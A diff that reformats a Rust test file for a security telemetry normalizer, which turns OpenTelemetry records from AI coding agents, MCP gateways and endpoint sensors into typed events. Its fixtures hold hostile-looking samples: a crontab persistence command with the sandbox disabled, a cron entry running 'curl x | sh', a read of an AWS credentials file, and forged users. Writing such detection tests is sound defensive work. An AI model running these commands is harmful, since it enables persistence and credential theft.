@@ -8,9 +8,13 @@ use event::{Event, EventKind, Outcome, Source};
 use opentelemetry_proto::tonic::collector::logs::v1::ExportLogsServiceRequest;
 use opentelemetry_proto::tonic::collector::metrics::v1::ExportMetricsServiceRequest;
 use opentelemetry_proto::tonic::collector::trace::v1::ExportTraceServiceRequest;
-use opentelemetry_proto::tonic::common::v1::{any_value, AnyValue, ArrayValue, KeyValue, KeyValueList};
+use opentelemetry_proto::tonic::common::v1::{
+    any_value, AnyValue, ArrayValue, KeyValue, KeyValueList,
+};
 use opentelemetry_proto::tonic::logs::v1::{LogRecord, ResourceLogs, ScopeLogs};
-use opentelemetry_proto::tonic::metrics::v1::{metric, number_data_point, Metric, NumberDataPoint, ResourceMetrics, ScopeMetrics, Sum};
+use opentelemetry_proto::tonic::metrics::v1::{
+    metric, number_data_point, Metric, NumberDataPoint, ResourceMetrics, ScopeMetrics, Sum,
+};
 use opentelemetry_proto::tonic::resource::v1::Resource;
 use opentelemetry_proto::tonic::trace::v1::{status, ResourceSpans, ScopeSpans, Span, Status};
 use serde_json::{json, Value};
@@ -24,15 +28,27 @@ fn any(v: &Value) -> AnyValue {
         Value::Bool(b) => any_value::Value::BoolValue(*b),
         Value::Number(n) if n.is_i64() => any_value::Value::IntValue(n.as_i64().unwrap()),
         Value::Number(n) => any_value::Value::DoubleValue(n.as_f64().unwrap()),
-        Value::Array(a) => any_value::Value::ArrayValue(ArrayValue { values: a.iter().map(any).collect() }),
-        Value::Object(m) => any_value::Value::KvlistValue(KeyValueList { values: kvs(&Value::Object(m.clone())) }),
+        Value::Array(a) => any_value::Value::ArrayValue(ArrayValue {
+            values: a.iter().map(any).collect(),
+        }),
+        Value::Object(m) => any_value::Value::KvlistValue(KeyValueList {
+            values: kvs(&Value::Object(m.clone())),
+        }),
         Value::Null => return AnyValue { value: None },
     };
     AnyValue { value: Some(value) }
 }
 
 fn kvs(v: &Value) -> Vec<KeyValue> {
-    v.as_object().unwrap().iter().map(|(k, v)| KeyValue { key: k.clone(), value: Some(any(v)), ..Default::default() }).collect()
+    v.as_object()
+        .unwrap()
+        .iter()
+        .map(|(k, v)| KeyValue {
+            key: k.clone(),
+            value: Some(any(v)),
+            ..Default::default()
+        })
+        .collect()
 }
 
 fn normalizer() -> Normalizer {
@@ -42,9 +58,17 @@ fn normalizer() -> Normalizer {
 fn log(resource: Value, body: Value, attrs: Value) -> Event {
     let req = ExportLogsServiceRequest {
         resource_logs: vec![ResourceLogs {
-            resource: Some(Resource { attributes: kvs(&resource), ..Default::default() }),
+            resource: Some(Resource {
+                attributes: kvs(&resource),
+                ..Default::default()
+            }),
             scope_logs: vec![ScopeLogs {
-                log_records: vec![LogRecord { time_unix_nano: T0, body: Some(any(&body)), attributes: kvs(&attrs), ..Default::default() }],
+                log_records: vec![LogRecord {
+                    time_unix_nano: T0,
+                    body: Some(any(&body)),
+                    attributes: kvs(&attrs),
+                    ..Default::default()
+                }],
                 ..Default::default()
             }],
             ..Default::default()
@@ -59,7 +83,10 @@ fn log(resource: Value, body: Value, attrs: Value) -> Event {
 fn span(resource: Value, name: &str, attrs: Value, error: bool) -> Event {
     let req = ExportTraceServiceRequest {
         resource_spans: vec![ResourceSpans {
-            resource: Some(Resource { attributes: kvs(&resource), ..Default::default() }),
+            resource: Some(Resource {
+                attributes: kvs(&resource),
+                ..Default::default()
+            }),
             scope_spans: vec![ScopeSpans {
                 spans: vec![Span {
                     name: name.into(),
@@ -68,7 +95,14 @@ fn span(resource: Value, name: &str, attrs: Value, error: bool) -> Event {
                     trace_id: vec![7; 16],
                     span_id: vec![9; 8],
                     attributes: kvs(&attrs),
-                    status: Some(Status { code: if error { status::StatusCode::Error as i32 } else { 0 }, message: String::new() }),
+                    status: Some(Status {
+                        code: if error {
+                            status::StatusCode::Error as i32
+                        } else {
+                            0
+                        },
+                        message: String::new(),
+                    }),
                     ..Default::default()
                 }],
                 ..Default::default()
@@ -86,9 +120,15 @@ fn claude(attrs: Value) -> Event {
         "session.id": "sess-1", "user.email": "gina@example.com", "organization.id": "org-1",
         "user.account_uuid": "acc-1", "terminal.type": "iTerm.app", "event.sequence": 3
     });
-    base.as_object_mut().unwrap().extend(attrs.as_object().unwrap().clone());
+    base.as_object_mut()
+        .unwrap()
+        .extend(attrs.as_object().unwrap().clone());
     let name = format!("claude_code.{}", base["event.name"].as_str().unwrap());
-    log(json!({"service.name": "claude-code", "service.version": "2.1.230", "os.type": "darwin"}), json!(name), base)
+    log(
+        json!({"service.name": "claude-code", "service.version": "2.1.230", "os.type": "darwin"}),
+        json!(name),
+        base,
+    )
 }
 
 #[test]
@@ -110,11 +150,23 @@ fn claude_code_read_tool_becomes_a_file_read_with_path_user_and_session() {
     assert!(!e.interactive, "a config decision is not a person acting");
     assert_eq!(e.time, T0 as i64);
     // Nothing dropped: untaken attributes and resource attributes stay.
-    assert_eq!(e.attrs.get("terminal.type").map(String::as_str), Some("iTerm.app"));
-    assert_eq!(e.attrs.get("resource.os.type").map(String::as_str), Some("darwin"));
+    assert_eq!(
+        e.attrs.get("terminal.type").map(String::as_str),
+        Some("iTerm.app")
+    );
+    assert_eq!(
+        e.attrs.get("resource.os.type").map(String::as_str),
+        Some("darwin")
+    );
     assert_eq!(e.attrs.get("duration_ms").map(String::as_str), Some("35"));
-    assert_eq!(e.attrs.get("event.name").map(String::as_str), Some("tool_result"));
-    assert!(!e.attrs.contains_key("user.email"), "taken by the user column");
+    assert_eq!(
+        e.attrs.get("event.name").map(String::as_str),
+        Some("tool_result")
+    );
+    assert!(
+        !e.attrs.contains_key("user.email"),
+        "taken by the user column"
+    );
     assert_eq!(e.event_id.len(), 32);
 }
 
@@ -125,24 +177,50 @@ fn claude_code_bash_carries_the_full_command_and_failure_outcome() {
         "tool_parameters": "{\"bash_command\": \"crontab\", \"full_command\": \"(crontab -l; echo x) | crontab -\", \"dangerouslyDisableSandbox\": true}"
     }));
     assert_eq!(e.kind, EventKind::ToolCall);
-    assert_eq!(e.command.as_deref(), Some("(crontab -l; echo x) | crontab -"));
+    assert_eq!(
+        e.command.as_deref(),
+        Some("(crontab -l; echo x) | crontab -")
+    );
     assert_eq!(e.outcome, Outcome::Failure);
-    assert!(e.interactive, "a user_temporary decision is a person acting");
-    assert_eq!(e.attrs.get("tool_parameters.dangerouslyDisableSandbox").map(String::as_str), Some("true"));
-    assert_eq!(e.attrs.get("tool_parameters.bash_command").map(String::as_str), Some("crontab"));
+    assert!(
+        e.interactive,
+        "a user_temporary decision is a person acting"
+    );
+    assert_eq!(
+        e.attrs
+            .get("tool_parameters.dangerouslyDisableSandbox")
+            .map(String::as_str),
+        Some("true")
+    );
+    assert_eq!(
+        e.attrs
+            .get("tool_parameters.bash_command")
+            .map(String::as_str),
+        Some("crontab")
+    );
 }
 
 #[test]
 fn claude_code_prompts_schedules_modes_and_mcp_tools() {
-    let p = claude(json!({"event.name": "user_prompt", "prompt_length": 42, "prompt": "<REDACTED>"}));
+    let p =
+        claude(json!({"event.name": "user_prompt", "prompt_length": 42, "prompt": "<REDACTED>"}));
     assert_eq!(p.kind, EventKind::UserPrompt);
     assert!(p.interactive);
-    let s = claude(json!({"event.name": "user_prompt", "command_name": "schedule", "command_source": "builtin"}));
+    let s = claude(
+        json!({"event.name": "user_prompt", "command_name": "schedule", "command_source": "builtin"}),
+    );
     assert_eq!(s.kind, EventKind::ScheduledTaskCreate);
-    let m = claude(json!({"event.name": "permission_mode_changed", "from_mode": "default", "to_mode": "bypassPermissions", "trigger": "shift_tab"}));
+    let m = claude(
+        json!({"event.name": "permission_mode_changed", "from_mode": "default", "to_mode": "bypassPermissions", "trigger": "shift_tab"}),
+    );
     assert_eq!(m.kind, EventKind::PermissionModeChange);
-    assert_eq!(m.attrs.get("to_mode").map(String::as_str), Some("bypassPermissions"));
-    let t = claude(json!({"event.name": "tool_result", "tool_name": "mcp__slack__slack_post_message", "success": "true"}));
+    assert_eq!(
+        m.attrs.get("to_mode").map(String::as_str),
+        Some("bypassPermissions")
+    );
+    let t = claude(
+        json!({"event.name": "tool_result", "tool_name": "mcp__slack__slack_post_message", "success": "true"}),
+    );
     assert_eq!(t.kind, EventKind::ConnectorAction);
     assert_eq!(t.mcp_server.as_deref(), Some("slack"));
     assert_eq!(t.tool.as_deref(), Some("slack_post_message"));
@@ -154,14 +232,20 @@ fn claude_code_prompts_schedules_modes_and_mcp_tools() {
     let f = claude(json!({"event.name": "tool_result", "tool_name": "WebFetch",
         "tool_parameters": "{\"url\": \"https://Files.Anon-Share.net/x\"}"}));
     assert_eq!(f.domain.as_deref(), Some("files.anon-share.net"));
-    let d = claude(json!({"event.name": "tool_decision", "tool_name": "Bash", "decision": "reject", "source": "user_reject"}));
+    let d = claude(
+        json!({"event.name": "tool_decision", "tool_name": "Bash", "decision": "reject", "source": "user_reject"}),
+    );
     assert_eq!(d.kind, EventKind::ToolDecision);
     assert_eq!(d.outcome, Outcome::Denied);
     assert!(d.interactive);
-    let a = claude(json!({"event.name": "api_request", "model": "claude-sonnet-4-5", "input_tokens": "1200", "output_tokens": 350}));
+    let a = claude(
+        json!({"event.name": "api_request", "model": "claude-sonnet-4-5", "input_tokens": "1200", "output_tokens": 350}),
+    );
     assert_eq!(a.kind, EventKind::ModelCall);
     assert_eq!((a.tokens_in, a.tokens_out), (Some(1200), Some(350)));
-    let c = claude(json!({"event.name": "mcp_server_connection", "status": "failed", "server_name": "evil", "transport_type": "stdio"}));
+    let c = claude(
+        json!({"event.name": "mcp_server_connection", "status": "failed", "server_name": "evil", "transport_type": "stdio"}),
+    );
     assert_eq!(c.kind, EventKind::McpConnect);
     assert_eq!(c.outcome, Outcome::Failure);
     assert_eq!(c.mcp_server.as_deref(), Some("evil"));
@@ -175,7 +259,10 @@ fn api_key_users_come_from_resource_enduser_id() {
         json!({"event.name": "user_prompt", "session.id": "s", "user.id": "anon-install-123"}),
     );
     assert_eq!(e.user.as_deref(), Some("jdoe@example.com"));
-    assert_eq!(e.attrs.get("resource.department").map(String::as_str), Some("eng"));
+    assert_eq!(
+        e.attrs.get("resource.department").map(String::as_str),
+        Some("eng")
+    );
 }
 
 #[test]
@@ -194,7 +281,12 @@ fn genai_gateway_spans_accept_old_and_new_names_and_ignore_caller_supplied_users
     assert_eq!((new.tokens_in, new.tokens_out), (Some(1200), Some(350)));
     assert_eq!(new.session.as_deref(), Some("sess-oscar-01"));
     assert_eq!(new.user.as_deref(), Some("oscar@example.com"));
-    assert_eq!(new.attrs.get("gen_ai.response.finish_reasons").map(String::as_str), Some("[\"stop\"]"));
+    assert_eq!(
+        new.attrs
+            .get("gen_ai.response.finish_reasons")
+            .map(String::as_str),
+        Some("[\"stop\"]")
+    );
     let old = span(
         json!({"service.name": "litellm"}),
         "raw_gen_ai_request",
@@ -205,7 +297,10 @@ fn genai_gateway_spans_accept_old_and_new_names_and_ignore_caller_supplied_users
     assert_eq!((old.tokens_in, old.tokens_out), (Some(10), Some(5)));
     assert_eq!(old.user.as_deref(), Some("u-77"));
     assert_eq!(old.outcome, Outcome::Failure);
-    assert_eq!(old.attrs.get("gen_ai.user").map(String::as_str), Some("forged@evil.com"));
+    assert_eq!(
+        old.attrs.get("gen_ai.user").map(String::as_str),
+        Some("forged@evil.com")
+    );
 }
 
 #[test]
@@ -226,7 +321,12 @@ fn mcp_gateway_tool_calls_split_into_connector_writes_and_reads() {
     assert_eq!(post.mcp_server.as_deref(), Some("mcp.slack.com"));
     assert_eq!(post.session.as_deref(), Some("mcp-dana-1"));
     assert_eq!(post.user.as_deref(), Some("dana@example.com"));
-    assert_eq!(post.attrs.get("gen_ai.tool.call.arguments.channel_id").map(String::as_str), Some("C024BE91L"));
+    assert_eq!(
+        post.attrs
+            .get("gen_ai.tool.call.arguments.channel_id")
+            .map(String::as_str),
+        Some("C024BE91L")
+    );
     let read = span(
         json!({"service.name": "mcp-gateway"}),
         "tools/call fetch_page",
@@ -235,9 +335,20 @@ fn mcp_gateway_tool_calls_split_into_connector_writes_and_reads() {
         false,
     );
     assert_eq!(read.kind, EventKind::ToolCall);
-    assert_eq!(read.tool.as_deref(), Some("fetch_page"), "tool name from the span name");
-    assert_eq!(read.domain.as_deref(), Some("tools.quickmcp-hub.io"), "the server reached, not the argument's host");
-    assert_eq!(read.target.as_deref(), Some("https://intranet.example.com/wiki"));
+    assert_eq!(
+        read.tool.as_deref(),
+        Some("fetch_page"),
+        "tool name from the span name"
+    );
+    assert_eq!(
+        read.domain.as_deref(),
+        Some("tools.quickmcp-hub.io"),
+        "the server reached, not the argument's host"
+    );
+    assert_eq!(
+        read.target.as_deref(),
+        Some("https://intranet.example.com/wiki")
+    );
     let delete = span(
         json!({"service.name": "mcp-gateway"}),
         "tools/call delete_email",
@@ -245,7 +356,14 @@ fn mcp_gateway_tool_calls_split_into_connector_writes_and_reads() {
                "user.email": "erin@example.com", "error.type": "tool_error"}),
         false,
     );
-    assert_eq!((delete.kind, delete.action.as_deref(), delete.connector.as_deref()), (EventKind::ConnectorAction, Some("delete"), Some("gmail")));
+    assert_eq!(
+        (
+            delete.kind,
+            delete.action.as_deref(),
+            delete.connector.as_deref()
+        ),
+        (EventKind::ConnectorAction, Some("delete"), Some("gmail"))
+    );
     assert_eq!(delete.outcome, Outcome::Failure);
     let docker = span(
         json!({"service.name": "docker-mcp-gateway"}),
@@ -253,8 +371,24 @@ fn mcp_gateway_tool_calls_split_into_connector_writes_and_reads() {
         json!({"mcp.server.name": "github", "mcp.tool.name": "create_issue", "mcp.client.name": "claude"}),
         false,
     );
-    assert_eq!((docker.kind, docker.tool.as_deref(), docker.connector.as_deref()), (EventKind::ConnectorAction, Some("create_issue"), Some("github")));
-    let init = span(json!({"service.name": "mcp-gateway"}), "initialize", json!({"mcp.method.name": "initialize", "server.address": "mcp.Atlassian.com"}), false);
+    assert_eq!(
+        (
+            docker.kind,
+            docker.tool.as_deref(),
+            docker.connector.as_deref()
+        ),
+        (
+            EventKind::ConnectorAction,
+            Some("create_issue"),
+            Some("github")
+        )
+    );
+    let init = span(
+        json!({"service.name": "mcp-gateway"}),
+        "initialize",
+        json!({"mcp.method.name": "initialize", "server.address": "mcp.Atlassian.com"}),
+        false,
+    );
     assert_eq!(init.kind, EventKind::McpConnect);
     assert_eq!(init.domain.as_deref(), Some("mcp.atlassian.com"));
 }
@@ -272,15 +406,26 @@ fn endpoint_ecs_scheduled_tasks_file_reads_and_process_starts() {
     assert_eq!(task.kind, EventKind::ScheduledTaskCreate);
     assert_eq!(task.user.as_deref(), Some("bob"));
     assert_eq!(task.host.as_deref(), Some("WS-0042"));
-    let only_code = log(json!({}), json!("x"), json!({"event.code": 4698, "winlog.channel": "Security", "user.name": "eve"}));
-    assert_eq!(only_code.kind, EventKind::ScheduledTaskCreate, "4698 sent as a number");
+    let only_code = log(
+        json!({}),
+        json!("x"),
+        json!({"event.code": 4698, "winlog.channel": "Security", "user.name": "eve"}),
+    );
+    assert_eq!(
+        only_code.kind,
+        EventKind::ScheduledTaskCreate,
+        "4698 sent as a number"
+    );
     let open = log(
         json!({"service.name": "endpoint-agent"}),
         json!("open"),
         json!({"host.name": "dev-hank-01", "user.name": "hank", "event.category": "file", "event.action": "open",
                "file.path": "/home/hank/.aws/credentials", "process.executable": "/usr/bin/python3", "process.pid": 48211}),
     );
-    assert_eq!((open.kind, open.path.as_deref()), (EventKind::FileRead, Some("/home/hank/.aws/credentials")));
+    assert_eq!(
+        (open.kind, open.path.as_deref()),
+        (EventKind::FileRead, Some("/home/hank/.aws/credentials"))
+    );
     let exec = log(
         json!({"service.name": "edot"}),
         json!(""),
@@ -288,7 +433,10 @@ fn endpoint_ecs_scheduled_tasks_file_reads_and_process_starts() {
                "process.executable.path": "C:\\Windows\\System32\\schtasks.exe", "process.owner": "CORP\\bob"}),
     );
     assert_eq!(exec.kind, EventKind::ProcessStart);
-    assert_eq!(exec.command.as_deref(), Some("schtasks /create /tn x /tr y"));
+    assert_eq!(
+        exec.command.as_deref(),
+        Some("schtasks /create /tn x /tr y")
+    );
     assert_eq!(exec.user.as_deref(), Some("CORP\\bob"));
 }
 
@@ -298,22 +446,39 @@ fn windows_event_log_receiver_bodies_and_osquery_rows() {
         "provider": {"name": "Microsoft-Windows-Security-Auditing"}, "system_time": "2026-03-10T15:00:00Z",
         "event_data": [{"name": "TaskName", "value": "\\Updater"}, {"name": "SubjectUserName", "value": "bob"}]});
     let e = log(json!({"service.name": "otelcol"}), body, json!({}));
-    assert_eq!((e.kind, e.user.as_deref(), e.host.as_deref()), (EventKind::ScheduledTaskCreate, Some("bob"), Some("WS-7")));
+    assert_eq!(
+        (e.kind, e.user.as_deref(), e.host.as_deref()),
+        (EventKind::ScheduledTaskCreate, Some("bob"), Some("WS-7"))
+    );
     let sysmon = json!({"channel": "Microsoft-Windows-Sysmon/Operational", "computer": "WS-7", "event_id": {"id": 1},
         "event_data": {"Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd /c crontab", "User": "CORP\\bob"}});
     let p = log(json!({}), sysmon, json!({}));
-    assert_eq!((p.kind, p.command.as_deref()), (EventKind::ProcessStart, Some("cmd /c crontab")));
+    assert_eq!(
+        (p.kind, p.command.as_deref()),
+        (EventKind::ProcessStart, Some("cmd /c crontab"))
+    );
     let osq = log(
         json!({}),
         json!(""),
         json!({"name": "crontab", "action": "added", "hostIdentifier": "mac-1", "columns": {"command": "curl x | sh", "path": "/etc/crontab"}}),
     );
-    assert_eq!((osq.kind, osq.host.as_deref(), osq.command.as_deref()), (EventKind::ScheduledTaskCreate, Some("mac-1"), Some("curl x | sh")));
+    assert_eq!(
+        (osq.kind, osq.host.as_deref(), osq.command.as_deref()),
+        (
+            EventKind::ScheduledTaskCreate,
+            Some("mac-1"),
+            Some("curl x | sh")
+        )
+    );
 }
 
 #[test]
 fn unknown_senders_keep_everything_as_other() {
-    let e = log(json!({"service.name": "something"}), json!({"msg": "hi", "n": 3}), json!({"user.name": "zoe", "weird": [1, 2]}));
+    let e = log(
+        json!({"service.name": "something"}),
+        json!({"msg": "hi", "n": 3}),
+        json!({"user.name": "zoe", "weird": [1, 2]}),
+    );
     assert_eq!((e.source, e.kind), (Source::Unknown, EventKind::Other));
     assert_eq!(e.user.as_deref(), Some("zoe"));
     assert_eq!(e.attrs.get("body.msg").map(String::as_str), Some("hi"));
@@ -324,7 +489,10 @@ fn unknown_senders_keep_everything_as_other() {
 fn metric_points_become_metric_events_and_far_future_times_are_rejected() {
     let req = ExportMetricsServiceRequest {
         resource_metrics: vec![ResourceMetrics {
-            resource: Some(Resource { attributes: kvs(&json!({"service.name": "claude-code"})), ..Default::default() }),
+            resource: Some(Resource {
+                attributes: kvs(&json!({"service.name": "claude-code"})),
+                ..Default::default()
+            }),
             scope_metrics: vec![ScopeMetrics {
                 metrics: vec![Metric {
                     name: "claude_code.token.usage".into(),
@@ -334,10 +502,16 @@ fn metric_points_become_metric_events_and_far_future_times_are_rejected() {
                             NumberDataPoint {
                                 time_unix_nano: T0,
                                 value: Some(number_data_point::Value::AsInt(1500)),
-                                attributes: kvs(&json!({"type": "input", "user.email": "a@example.com"})),
+                                attributes: kvs(
+                                    &json!({"type": "input", "user.email": "a@example.com"}),
+                                ),
                                 ..Default::default()
                             },
-                            NumberDataPoint { time_unix_nano: u64::MAX, value: Some(number_data_point::Value::AsDouble(1.0)), ..Default::default() },
+                            NumberDataPoint {
+                                time_unix_nano: u64::MAX,
+                                value: Some(number_data_point::Value::AsDouble(1.0)),
+                                ..Default::default()
+                            },
                         ],
                         ..Default::default()
                     })),
@@ -354,8 +528,14 @@ fn metric_points_become_metric_events_and_far_future_times_are_rejected() {
     assert_eq!(out.events.len(), 1);
     let m = &out.events[0];
     assert_eq!(m.kind, EventKind::Metric);
-    assert_eq!(m.attrs.get("metric.name").map(String::as_str), Some("claude_code.token.usage"));
-    assert_eq!(m.attrs.get("metric.value").map(String::as_str), Some("1500"));
+    assert_eq!(
+        m.attrs.get("metric.name").map(String::as_str),
+        Some("claude_code.token.usage")
+    );
+    assert_eq!(
+        m.attrs.get("metric.value").map(String::as_str),
+        Some("1500")
+    );
 }
 
 #[test]
@@ -370,17 +550,31 @@ fn user_mappings_override_defaults_by_name() {
     let set = MappingSet::load(&[dir.clone()]).expect("loads");
     let req = ExportLogsServiceRequest {
         resource_logs: vec![ResourceLogs {
-            resource: Some(Resource { attributes: kvs(&json!({"service.name": "acme-agent"})), ..Default::default() }),
+            resource: Some(Resource {
+                attributes: kvs(&json!({"service.name": "acme-agent"})),
+                ..Default::default()
+            }),
             scope_logs: vec![ScopeLogs {
-                log_records: vec![LogRecord { time_unix_nano: T0, attributes: kvs(&json!({"actor": "q@example.com", "op": "read"})), ..Default::default() }],
+                log_records: vec![LogRecord {
+                    time_unix_nano: T0,
+                    attributes: kvs(&json!({"actor": "q@example.com", "op": "read"})),
+                    ..Default::default()
+                }],
                 ..Default::default()
             }],
             ..Default::default()
         }],
     };
     let out = Normalizer::new(Arc::new(set)).logs(&req, "default", 1);
-    assert_eq!((out.events[0].kind, out.events[0].user.as_deref()), (EventKind::FileRead, Some("q@example.com")));
-    std::fs::write(dir.join("broken.yaml"), "mappings:\n  - name: x\n    source: robot\n").unwrap();
+    assert_eq!(
+        (out.events[0].kind, out.events[0].user.as_deref()),
+        (EventKind::FileRead, Some("q@example.com"))
+    );
+    std::fs::write(
+        dir.join("broken.yaml"),
+        "mappings:\n  - name: x\n    source: robot\n",
+    )
+    .unwrap();
     let err = MappingSet::load(&[dir.clone()]).unwrap_err().to_string();
     assert!(err.contains("broken.yaml:3"), "{err}");
     std::fs::remove_dir_all(dir).ok();
